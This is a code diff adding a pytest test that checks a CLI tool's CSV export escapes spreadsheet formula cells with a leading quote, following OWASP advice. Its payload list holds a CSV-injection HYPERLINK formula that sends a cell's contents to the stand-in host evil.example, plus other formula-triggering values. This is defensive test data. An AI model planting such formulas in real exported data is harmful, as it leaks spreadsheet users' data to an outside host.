@@ -1,5 +1,8 @@
 """The `silo` command: sub-commands registered, clear exit codes, `silo query` on a snapshot."""
 
+import csv
+import io
+
 import duckdb
 import pytest
 
@@ -78,3 +81,30 @@ def test_fail_on_alert_exits_non_zero_only_when_asked_and_an_alert_is_open(works
     assert "1 alert(s) open (--fail-on-alert)" in capsys.readouterr().out
     assert build_parser().parse_args(["run", "-w", "x", "--fail-on-alert"]).fail_on_alert
     assert build_parser().parse_args(["demo", "--fail-on-alert"]).fail_on_alert
+
+
+def test_csv_export_neutralises_formula_cells(workspace, capsys):
+    """GIVEN titles a spreadsheet would run as formulas WHEN exported with --csv THEN each
+    starts with a single quote (OWASP), and numbers stay numbers."""
+    payloads = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    with duckdb.connect(str(workspace / "warehouse" / "silo_snapshot.duckdb")) as con:
+        con.execute("create table fct_t (n integer, title varchar)")
+        for n, title in enumerate(payloads):
+            con.execute("insert into fct_t values (?, ?)", [-n, title])
+        con.execute("insert into fct_t values (99, 'plain = text')")
+    sql = "select * from fct_t order by n desc"
+    assert main(["query", "-w", str(workspace), "--csv", sql]) == 0
+    out = capsys.readouterr().out
+    rows = list(csv.reader(io.StringIO(out)))
+    assert rows[0] == ["n", "title"]
+    assert rows[1] == ["99", "plain = text"]
+    for row, payload in zip(rows[2:], payloads, strict=True):
+        assert row[1] == "'" + payload
+    assert [r[0] for r in rows[2:]] == ["0", "-1", "-2", "-3", "-4", "-5"]
